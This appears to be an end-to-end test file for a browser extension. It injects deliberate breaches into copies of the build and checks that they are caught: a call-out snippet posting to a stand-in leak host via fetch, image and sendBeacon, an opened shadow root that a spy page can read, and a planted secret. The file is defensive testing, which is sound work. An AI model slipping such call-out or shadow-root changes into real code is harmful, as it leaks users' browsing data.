import { openSession } from "../../e2e/harness/open";
import { cards, openPanel, waitForTab } from "../../e2e/harness/panel";
import type { Session } from "../../e2e/harness/session";
import { listed, testSite } from "../../e2e/harness/sites";
import { quietTime } from "../../e2e/harness/wait";
import { spoilt } from "./spoilt";

// Copies of the release build, each with a breach: what the tests of network and secrecy rest on must notice it.

const leak = "https://www.unlisted-paper.test/leak";
const callOut = `;(() => { try { fetch("${leak}-fetch", { mode: "no-cors" }).catch(() => 0); } catch {}
try { new Image().src = "${leak}-image"; } catch {} try { navigator.sendBeacon("${leak}-beacon", "x"); } catch {} })();`;

async function withBreach<T>(folder: string, use: (session: Session) => Promise<T>): Promise<T> {
  const session = await openSession({ site: testSite, folder });
  try {
    return await use(session);
  } finally {
    await session.close();
  }
}

const leaksOf = ({ seen }: Session): string[] =>
  seen.map(({ path }) => path).filter((path) => path.startsWith("/leak"));

test("P1: a background that tried to call out is stopped by its own policy", () =>
  withBreach(
    spoilt("background.js", (code) => callOut + code),
    async (session) => {
      await waitForTab(await session.open(`${listed}/pages/plain`));
      await quietTime();
      expect(leaksOf(session)).toEqual([]);
    },
  ));

test.each(["gate.js", "visit.js"])("P1: a %s that calls out is seen in the record of traffic", (file) =>
  withBreach(
    spoilt(file, (code) => callOut + code),
    async (session) => {
      await waitForTab(await session.open(`${listed}/pages/plain`));
      await quietTime();
      expect(leaksOf(session)).toContain("/leak-fetch");
    },
  ),
);

test("P2: a sidebar with an open root is heard by the spy page", () =>
  withBreach(
    spoilt("visit.js", (code) => code.replace(/attachShadow\(\{mode:[^,}]+/g, 'attachShadow({mode:"open"')),
    async (session) => {
      const page = await session.open(`${listed}/pages/spy`);
      await openPanel(page);
      const outlet = (await cards(page)).flatMap(({ groups }) => groups.flatMap(({ outlets }) => outlets))[0] ?? "";
      await quietTime();
      expect(outlet).not.toBe("");
      expect(((await page.evaluate("heard")) as string[]).join("\n")).toContain(outlet);
    },
  ));

const secret = "Hidden Herald Zq7";

test("P2: a secret planted in the index is shown in the panel and never heard by the page", () =>
  withBreach(
    spoilt("background.js", (code) => code.replaceAll("Daily Mail", secret)),
    async (session) => {
      const page = await session.open(`${listed}/pages/spy`);
      await openPanel(page);
      await quietTime();
      expect(JSON.stringify(await cards(page))).toContain(secret);
      expect(((await page.evaluate("heard")) as string[]).join("\n")).not.toContain(secret);
    },
  ));

test("F08: with a background that fails at its start the popup says so, and pages stay as they are", () =>
  withBreach(
    spoilt("background.js", (code) => `throw new Error("broken at the start");${code}`),
    async (session) => {
      const page = await session.open(`${listed}/pages/plain`);
      await quietTime();
      expect(await page.evaluate(() => document.getElementsByTagName("second-source").length)).toBe(0);
      const popup = await session.openOwn("popup.html");
      await new Promise((done) => setTimeout(done, 8000));
      const text = await popup.evaluate(() => document.body.textContent);
      expect(text).toMatch(/again|reload|restart/i);
    },
  ));
